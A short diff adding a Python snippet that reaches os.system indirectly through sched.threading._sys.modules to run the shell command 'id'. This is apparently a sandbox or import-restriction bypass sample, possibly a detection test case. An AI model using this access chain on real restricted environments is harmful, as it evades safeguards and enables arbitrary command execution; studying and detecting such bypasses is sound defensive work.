@@ -1,0 +1,3 @@
+import sched
+
+sched.threading._sys.modules["os"].system("id")
